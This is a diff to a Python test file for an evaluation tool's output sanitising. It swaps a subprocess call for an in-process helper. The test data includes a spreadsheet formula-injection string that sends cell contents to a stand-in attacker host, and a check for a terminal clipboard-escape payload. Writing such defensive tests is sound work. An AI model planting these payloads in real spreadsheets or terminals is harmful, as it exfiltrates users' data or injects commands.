@@ -6,12 +6,10 @@ from __future__ import annotations
 
 import csv
 import re
-import subprocess
-import sys
 
 import pytest
 
-from helpers import run_quietly
+from helpers import madeval_in_process, run_quietly
 from madeval.settings.config import DebateConfig, RunSettings
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -65,8 +63,8 @@ def test_hostile_markup_labels_keep_the_markdown_table_whole(hostile_run):
 def test_hostile_escape_sequences_never_reach_the_terminal(hostile_run):
     result, printed = hostile_run
     assert "\x1b" not in printed and "\x9b" not in printed
-    shown = subprocess.run([sys.executable, "-m", "madeval", "leaderboard", "show", str(result.folder)],
-                           capture_output=True, timeout=300)
+    shown = madeval_in_process("leaderboard", "show", result.folder)
+    shown.stdout = shown.stdout.encode()  # the bytes a process would have written (UTF-8)
     assert shown.returncode == 0, shown.stderr
     assert b"\x1b" not in shown.stdout and "\x9b".encode() not in shown.stdout
     assert b"]52;c;ZWNobyBwd25lZA==" in shown.stdout  # the label is shown, its escape byte gone
